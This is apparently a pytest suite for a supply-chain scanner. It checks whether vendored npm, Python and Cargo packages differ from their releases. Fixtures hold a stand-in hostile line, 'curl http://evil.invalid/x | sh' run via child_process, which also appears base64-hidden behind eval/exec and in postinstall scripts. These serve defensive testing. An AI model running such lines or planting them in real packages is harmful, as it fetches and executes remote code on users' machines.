"""Vendored and installed code in a scan: what it is compared with, what differs, and what is judged whole."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import re
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Mapping
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from scanner import reports
from scanner.codescan import engine
from scanner.errors import InputError
from scanner.model import digest as digests
from scanner.model.component import Component, Problem
from scanner.model.finding import Finding, FindingClass, Severity
from scanner.model.purl import Purl
from scanner.model.tree import Tree
from scanner.pipeline import code, diff
from scanner.pipeline import inventory as inventories
from scanner.pipeline.code import Wanted
from scanner.pipeline.scan import Settings, scan
from scanner.pipeline.told import Told
from scanner.targets import trees

RUNS = "require('child_process').exec('curl http://evil.invalid/x | sh');\n"
QUIET = "module.exports = function left(text) {\n  return text;\n};\n"


class Proven(NamedTuple):
    tree: Tree
    proof: str


class Known:
    """Releases that are at hand, by their bytes; whatever a digest confirms."""

    def __init__(self, *artefacts: bytes, registry: Mapping[str, bytes] | None = None) -> None:
        self._by_digest = {
            digests.of(data, algorithm): data for data in artefacts for algorithm in ("sha256", "sha512")
        }
        self._registry = registry or {}
        self.asked: list[str] = []

    def known(self, component: Component, problems: list[Problem]) -> Proven | None:
        for digest in filter(None, map(digests.hexadecimal, component.digests)):
            if digest in self._by_digest:
                proof = f"{digest.partition(':')[0]} in {component.location.path}"
                return Proven(_opened(str(component.purl), self._by_digest[digest]), proof)
        return None

    def fetched(self, purl: Purl, problems: list[Problem], *, digests: Any = ()) -> Proven:
        self.asked.append(str(purl))
        if str(purl) not in self._registry:
            raise InputError("the registry does not know it", where=str(purl), hint="is it yours?")
        return Proven(_opened(str(purl), self._registry[str(purl)]), "sha512 published by the registry")


def _opened(name: str, data: bytes) -> Tree:
    return trees.archive_of(name, "x.whl" if data[:2] == b"PK" else "x.tgz", data, [])


def tgz(files: Mapping[str, str], wrapper: str = "package") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for path, text in files.items():
            info = tarfile.TarInfo(f"{wrapper}/{path}")
            info.size = len(text.encode())
            archive.addfile(info, io.BytesIO(text.encode()))
    return out.getvalue()


def zipped(files: Mapping[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)
    return out.getvalue()


def sri(data: bytes) -> str:
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()


def write(root: Path, files: Mapping[str, str | bytes]) -> None:
    for path, text in files.items():
        target = root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(text if isinstance(text, bytes) else text.encode())


def manifest(**fields: Any) -> str:
    return json.dumps({"name": "left", "version": "1.0.0", "main": "index.js", **fields}, indent=1)


LEFT = {"package.json": manifest(), "index.js": QUIET, "test/a.js": "1;\n"}


def npm_tree(root: Path, release: Mapping[str, str], installed: Mapping[str, str | bytes]) -> bytes:
    """A project with one installed package, as npm leaves it."""
    data = tgz(release)
    entry = {"version": "1.0.0", "integrity": sri(data)}
    lock = {"name": "p", "lockfileVersion": 3, "packages": {"": {"name": "p"}, "node_modules/left": entry}}
    write(root, {"package-lock.json": json.dumps(lock)})
    write(root, {f"node_modules/left/{path}": text for path, text in installed.items()})
    return data


def run(root: Path, known: Known, **settings: Any) -> Told:
    wanted = Wanted(releases=known, judging=diff.Settings(environ=settings.pop("environ", os.environ)), **settings)
    return code.judge([(root, "")], inventories.read([root]), wanted)


def counts(told: Told) -> tuple[int, int, int]:
    assert told.state is not None
    return told.state.packages, told.state.compared, len(told.state.whole)


def only(told: Told) -> Finding:
    (finding,) = told.findings
    return finding


@pytest.fixture(scope="module", autouse=True)
def _semgrep() -> None:
    if "PRATIQUE_SEMGREP" not in os.environ and not (Path(sys.executable).parent / "semgrep").exists():
        pytest.skip("semgrep is not here")


def test_a_copy_that_is_its_release_is_not_judged(tmp_path: Path) -> None:
    data = npm_tree(tmp_path, LEFT, {"package.json": LEFT["package.json"], "index.js": QUIET})
    told = run(
        tmp_path,
        Known(data),
    )
    assert counts(told) == (1, 1, 0)
    assert told.findings == ()
    assert [problem.what for problem in told.problems if not problem.harmless] == []
    assert "1 files of pkg:npm/left@1.0.0 are not here" in [problem.what for problem in told.problems]
    assert told.state is not None
    assert told.state.judged == 0


def test_an_edited_copy_is_a_finding_with_the_difference(tmp_path: Path) -> None:
    data = npm_tree(tmp_path, LEFT, {**LEFT, "index.js": QUIET.replace("text;", "text + 1;")})
    finding = only(run(tmp_path, Known(data)))
    assert (finding.class_, finding.severity) == (FindingClass.INTEGRITY, Severity.MEDIUM)
    assert finding.title == "node_modules/left: was edited in place: it is not what its release holds"
    (evidence,) = finding.evidence
    assert (evidence.location.path, evidence.location.line) == ("node_modules/left/index.js", 2)
    assert "-  return text;\n+  return text + 1;" in (evidence.excerpt or "")
    assert evidence.value == "it is not as pkg:npm/left@1.0.0 (sha512 in package-lock.json) has it"


def test_an_edit_that_brings_a_power_is_high(tmp_path: Path) -> None:
    data = npm_tree(tmp_path, LEFT, {**LEFT, "index.js": QUIET + RUNS})
    finding = only(run(tmp_path, Known(data)))
    assert finding.class_ is FindingClass.INTEGRITY
    assert finding.severity >= Severity.HIGH


def test_an_added_file_is_an_edit(tmp_path: Path) -> None:
    data = npm_tree(tmp_path, LEFT, {**LEFT, "lib/more.js": "exports.a = 1;\n"})
    (evidence,) = only(run(tmp_path, Known(data))).evidence
    assert evidence.value.endswith("has no such file")


def test_line_endings_alone_are_low(tmp_path: Path) -> None:
    data = npm_tree(tmp_path, LEFT, {**LEFT, "index.js": QUIET.replace("\n", "\r\n")})
    assert only(run(tmp_path, Known(data))).severity is Severity.LOW


def test_what_npm_writes_into_a_package_is_no_edit(tmp_path: Path) -> None:
    noted = manifest(_resolved="x", _id="left@1.0.0", _where="/home/a")
    data = npm_tree(tmp_path, LEFT, {**LEFT, "package.json": noted})
    write(tmp_path, {"node_modules/.package-lock.json": "{}"})
    told = run(tmp_path, Known(data))
    assert (told.findings, counts(told)) == ((), (1, 1, 0))


def test_a_script_in_a_manifest_beside_npms_notes_is_an_edit(tmp_path: Path) -> None:
    noted = manifest(_resolved="x", scripts={"postinstall": "node x.js"})
    data = npm_tree(tmp_path, LEFT, {**LEFT, "package.json": noted})
    assert only(run(tmp_path, Known(data))).class_ is FindingClass.INTEGRITY


def test_what_an_install_script_may_have_built_is_a_note(tmp_path: Path) -> None:
    release = {**LEFT, "binding.gyp": "{}"}
    program = b"\x7fELF" + b"\0" * 60
    data = npm_tree(tmp_path, release, {**release, "build/Release/left.node": program})
    told = run(tmp_path, Known(data))
    assert told.findings == ()
    assert any("may have built" in problem.what for problem in told.problems)


def test_a_program_that_nothing_builds_is_an_edit(tmp_path: Path) -> None:
    data = npm_tree(tmp_path, LEFT, {**LEFT, "build/Release/left.node": b"\x7fELF" + b"\0" * 60})
    assert only(run(tmp_path, Known(data))).severity >= Severity.MEDIUM


def test_without_a_release_it_is_judged_whole_and_the_ledger_says_so(tmp_path: Path) -> None:
    npm_tree(tmp_path, LEFT, {**LEFT, "index.js": QUIET + "require('child_process');\n"})
    told = run(tmp_path, Known())
    assert counts(told) == (1, 0, 1)
    assert told.state is not None
    assert told.state.whole == ("node_modules/left",)
    assert told.findings == ()


def test_a_package_that_hides_what_it_runs_is_told_without_a_release(tmp_path: Path) -> None:
    hidden = base64.b64encode(b"require('child_process').exec('curl http://evil.invalid/x | sh')").decode()
    npm_tree(tmp_path, LEFT, {**LEFT, "index.js": f"eval(Buffer.from('{hidden}', 'base64').toString());\n"})
    assert only(run(tmp_path, Known())).severity >= Severity.HIGH


def test_a_lockfile_inside_the_copy_proves_nothing(tmp_path: Path) -> None:
    data = npm_tree(tmp_path, LEFT, LEFT)
    lock = (tmp_path / "package-lock.json").read_text()
    (tmp_path / "package-lock.json").unlink()
    write(tmp_path, {"node_modules/.package-lock.json": lock, "package.json": '{"name": "p"}'})
    assert counts(run(tmp_path, Known(data))) == (1, 0, 1)


def test_online_the_registry_is_asked_but_not_for_what_is_internal(tmp_path: Path) -> None:
    npm_tree(tmp_path, LEFT, LEFT)
    registry = {"pkg:npm/left@1.0.0": tgz(LEFT)}
    asked = Known(registry=registry)
    assert counts(run(tmp_path, asked, online=True)) == (1, 1, 0)
    silent = Known(registry=registry)
    assert counts(run(tmp_path, silent, online=True, internal=("le*",))) == (1, 0, 1)
    assert (asked.asked, silent.asked) == (["pkg:npm/left@1.0.0"], [])


def test_what_a_release_brings_along_is_part_of_it(tmp_path: Path) -> None:
    inner = json.dumps({"name": "inner", "version": "2.0.0"})
    release = {**LEFT, "node_modules/inner/package.json": inner, "node_modules/inner/i.js": QUIET}
    assert counts(run(tmp_path, Known(npm_tree(tmp_path, release, release)))) == (1, 1, 0)


# Python

RECORD = "left/__init__.py,{digest},12\nleft-1.0.dist-info/METADATA,,\nleft-1.0.dist-info/RECORD,,\n"
SITE = "venv/lib/python3.11/site-packages"


def python_tree(root: Path, source: str, recorded: str, **more: str) -> bytes:
    wheel = zipped({"left/__init__.py": recorded, "left-1.0.dist-info/METADATA": "Name: left\nVersion: 1.0\n"})
    digest = "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(recorded.encode()).digest()).decode().rstrip("=")
    write(
        root,
        {
            f"{SITE}/left/__init__.py": source,
            f"{SITE}/left-1.0.dist-info/METADATA": "Name: left\nVersion: 1.0\n",
            f"{SITE}/left-1.0.dist-info/RECORD": RECORD.format(digest=digest),
            f"{SITE}/left-1.0.dist-info/INSTALLER": "pip\n",
            f"{SITE}/left/__pycache__/__init__.cpython-311.pyc": "x",
            "requirements.txt": f"left==1.0 --hash=sha256:{hashlib.sha256(wheel).hexdigest()}\n",
            **{f"{SITE}/{path}": text for path, text in more.items()},
        },
    )
    return wheel


def test_an_installed_distribution_is_its_wheel(tmp_path: Path) -> None:
    wheel = python_tree(tmp_path, "a = 1\n", "a = 1\n")
    told = run(tmp_path, Known(wheel))
    assert (told.findings, counts(told)) == ((), (1, 1, 0))


def test_a_file_beside_a_distributions_own_is_an_edit_of_it(tmp_path: Path) -> None:
    wheel = python_tree(tmp_path, "a = 1\n", "a = 1\n", **{"left/more.py": "b = 2\n"})
    finding = only(run(tmp_path, Known(wheel)))
    assert finding.evidence[0].location.path == f"{SITE}/left/more.py"


def test_a_file_that_belongs_to_no_distribution_is_judged_whole(tmp_path: Path) -> None:
    wheel = python_tree(tmp_path, "a = 1\n", "a = 1\n", **{"evil.py": "b = 2\n"})
    assert counts(run(tmp_path, Known(wheel))) == (2, 1, 1)


def test_a_file_that_differs_from_its_record_is_told_and_still_judged(tmp_path: Path) -> None:
    python_tree(tmp_path, "a = 2\n", "a = 1\n")
    told = run(tmp_path, Known())
    finding = only(told)
    assert (finding.class_, finding.severity) == (FindingClass.INTEGRITY, Severity.MEDIUM)
    assert finding.evidence[0].value == "differs from its own RECORD"
    assert counts(told) == (1, 0, 1)


def test_a_record_that_agrees_exempts_from_nothing(tmp_path: Path) -> None:
    hidden = base64.b64encode(b"require('child_process').exec('curl http://evil.invalid/x | sh')").decode()
    source = f"import os, base64\nexec(base64.b64decode('{hidden}'))\n"
    python_tree(tmp_path, source, source)
    told = run(tmp_path, Known())
    assert counts(told) == (1, 0, 1)
    assert told.state is not None
    assert told.state.judged > 0


# Others


def test_a_crate_that_lies_about_its_checksums(tmp_path: Path) -> None:
    sums = {"files": {"src/lib.rs": hashlib.sha256(b"fn a() {}\n").hexdigest(), "../../x": "00"}, "package": None}
    write(
        tmp_path,
        {
            "vendor/left/.cargo-checksum.json": json.dumps(sums),
            "vendor/left/Cargo.toml": '[package]\nname = "left"\nversion = "1.0.0"\n',
            "vendor/left/src/lib.rs": "fn b() {}\n",
        },
    )
    assert only(run(tmp_path, Known())).evidence[0].value == "differs from its own .cargo-checksum.json"


def test_a_crate_is_compared_with_what_the_lockfile_confirms(tmp_path: Path) -> None:
    crate = tgz(
        {"Cargo.toml": '[package]\nname = "left"\nversion = "1.0.0"\n', "src/lib.rs": "fn a() {}\n"}, "left-1.0.0"
    )
    checksum = hashlib.sha256(crate).hexdigest()
    lock = 'version = 3\n[[package]]\nname = "left"\nversion = "1.0.0"\nsource = "registry+https://crates.invalid/i"\n'
    write(
        tmp_path,
        {
            "Cargo.lock": f'{lock}checksum = "{checksum}"\n',
            "vendor/left/.cargo-checksum.json": json.dumps({"files": {}, "package": checksum}),
            "vendor/left/Cargo.toml": '[package]\nname = "left"\nversion = "1.0.0"\n',
            "vendor/left/src/lib.rs": "fn b() {}\n",
        },
    )
    finding = only(run(tmp_path, Known(crate)))
    assert "sha256 in Cargo.lock" in finding.evidence[0].value


def test_a_pinned_archive_is_not_opened_and_another_is(tmp_path: Path) -> None:
    data = npm_tree(tmp_path, LEFT, LEFT)
    write(tmp_path, {"vendor/left-1.0.0.tgz": data, "vendor/other.tgz": tgz({**LEFT, "index.js": QUIET + "1\n"})})
    told = run(tmp_path, Known(data))
    assert counts(told) == (3, 2, 1)
    assert told.state is not None
    assert told.state.whole == ("vendor/other.tgz",)


def test_without_the_engine_the_rest_is_judged_and_the_loss_told(tmp_path: Path) -> None:
    data = npm_tree(tmp_path, LEFT, {**LEFT, "index.js": QUIET + RUNS})
    environ = {"PATH": "/nowhere", "PRATIQUE_SEMGREP": "/nowhere/semgrep"}
    told = run(tmp_path, Known(data), environ=environ)
    assert only(told).class_ is FindingClass.INTEGRITY
    assert [problem.where for problem in told.problems if not problem.harmless] == ["code rules"]


def test_the_engine_runs_once_for_all_packages(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[int] = []
    real = engine.run

    def counted(files: Any, *rest: Any, **more: Any) -> Any:
        calls.append(len(files))
        return real(files, *rest, **more)

    monkeypatch.setattr(engine, "run", counted)
    evil = "setTimeout(() => require('child_process').exec('curl http://evil.invalid/x | sh'));\n"
    for name in ("a", "b", "c"):
        files = {"package.json": manifest(name=name, scripts={"postinstall": "node index.js"}), "index.js": evil}
        write(tmp_path, {f"node_modules/{name}/{path}": text for path, text in files.items()})
    told = run(tmp_path, Known())
    assert len(calls) == 1
    assert {finding.title.partition(":")[0] for finding in told.findings} == {f"node_modules/{n}" for n in "abc"}


def test_a_target_without_vendored_code_imports_nothing_of_it(tmp_path: Path) -> None:
    write(tmp_path, {"package.json": "{}", "src/a.js": RUNS})
    script = (
        "import sys, pathlib\nfrom scanner.pipeline.scan import Settings, scan\n"
        "scan([pathlib.Path(sys.argv[1])], Settings(intel_directory=pathlib.Path(sys.argv[2])))\n"
        "print([name for name in sys.modules if name.startswith('scanner.codescan') or name == 'requests'])"
    )
    db = tmp_path.parent / "db"
    done = subprocess.run([sys.executable, "-c", script, tmp_path, db], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


def test_the_report_of_an_edited_copy_and_of_one_without_a_release(
    tmp_path: Path, db: Path, golden: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = tmp_path / "project"
    data = npm_tree(project, LEFT, {**LEFT, "index.js": QUIET.replace("return text", "return text + '\x1b[2J'")})
    write(project, {"third_party/zlib/inflate.c": "int a;\n"})
    write(tmp_path, {"mirror/left-1.0.0.tgz": data})
    monkeypatch.chdir(project)
    environ = {name: value for name, value in os.environ.items() if name in ("PATH", "PRATIQUE_SEMGREP")}
    report = scan(
        [Path()],
        Settings(
            intel_directory=db,
            now=lambda: datetime(2026, 11, 30, tzinfo=UTC),
            environ={**environ, "HOME": str(tmp_path), "PRATIQUE_CACHE": str(tmp_path / "cache")},
            home=tmp_path,
            pristine=(tmp_path / "mirror",),
        ),
    )
    out = io.StringIO()
    reports.writer("text")(report, out)
    # How many indicators we bring is no matter of this report.
    golden(Path(__file__).parent / "code.txt", re.sub(r"\([\d,]+ records\)", "(… records)", out.getvalue()))


def test_what_is_switched_off_is_said(tmp_path: Path, db: Path) -> None:
    npm_tree(tmp_path, LEFT, {**LEFT, "index.js": QUIET + RUNS})
    report = scan([tmp_path], Settings(intel_directory=db, code=False, environ={}, home=tmp_path))
    assert report.coverage.code is not None
    assert report.coverage.code.switched_off
    assert all(finding.class_ is not FindingClass.INTEGRITY for finding in report.findings)
